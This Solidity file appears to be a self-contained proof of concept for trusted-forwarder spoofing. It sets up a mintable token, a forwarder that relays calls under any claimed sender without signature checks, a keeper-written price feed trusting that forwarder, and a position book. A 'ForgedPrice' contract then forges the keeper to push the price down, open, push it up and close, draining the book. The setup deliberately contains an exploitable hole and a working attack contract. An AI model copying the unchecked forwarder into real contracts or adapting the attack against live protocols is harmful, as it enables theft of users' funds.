// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC2771Context} from "@openzeppelin/contracts/metatx/ERC2771Context.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC4626, IERC20} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";

/// Money that anybody can make.
contract Money is ERC20("Money", "MON") {
    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }
}

/// OpenZeppelin's vault as it is.
contract Savings is ERC4626 {
    constructor(IERC20 money) ERC20("Savings", "SAV") ERC4626(money) {}
}

/// Passes calls on in the name of whoever the caller says: no signature is checked.
contract LooseForwarder {
    function execute(address from, address to, bytes calldata data) external {
        (bool ok,) = to.call(abi.encodePacked(data, from));
        require(ok, "refused");
    }
}

/// A price that its keeper writes, through OpenZeppelin's ERC-2771 context.
contract KeptFeed is ERC2771Context {
    address public immutable keeper;
    uint256 public price;

    constructor(address forwarder, address keeper_, uint256 price_) ERC2771Context(forwarder) {
        (keeper, price) = (keeper_, price_);
    }

    function setPrices(address[] calldata, uint256[] calldata prices) external {
        require(_msgSender() == keeper, "not the keeper");
        price = prices[0];
    }
}

/// Pays a position's profit at the feed's price.
contract Book {
    Money public immutable money;
    KeptFeed public immutable feed;
    mapping(address owner => uint256) public entry;

    constructor(Money money_, KeptFeed feed_) {
        (money, feed) = (money_, feed_);
    }

    function open() external {
        money.transferFrom(msg.sender, address(this), 100);
        entry[msg.sender] = feed.price();
    }

    function close() external {
        uint256 value = 100 * feed.price() / entry[msg.sender];
        entry[msg.sender] = 0;
        money.transfer(msg.sender, value);
    }
}

/// Writes the price down, opens, writes it up and closes, all in the keeper's name and one transaction.
contract ForgedPrice {
    function run(LooseForwarder forwarder, Book book, uint256 low, uint256 high) external {
        KeptFeed feed = book.feed();
        book.money().approve(address(book), 100);
        _write(forwarder, feed, low);
        book.open();
        _write(forwarder, feed, high);
        book.close();
    }

    function _write(LooseForwarder forwarder, KeptFeed feed, uint256 price) private {
        uint256[] memory prices = new uint256[](1);
        prices[0] = price;
        bytes memory data = abi.encodeCall(feed.setPrices, (new address[](1), prices));
        forwarder.execute(feed.keeper(), address(feed), data);
    }
}
